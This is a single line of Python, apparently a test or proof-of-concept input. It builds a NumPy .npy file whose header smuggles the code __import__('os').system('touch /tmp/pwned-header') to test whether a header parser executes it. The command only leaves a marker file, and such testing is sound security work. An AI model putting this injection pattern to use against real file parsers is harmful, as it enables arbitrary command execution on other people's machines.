answer(stops=lambda a: raw_npy("__import__('os').system('touch /tmp/pwned-header')", "<i8", b""))
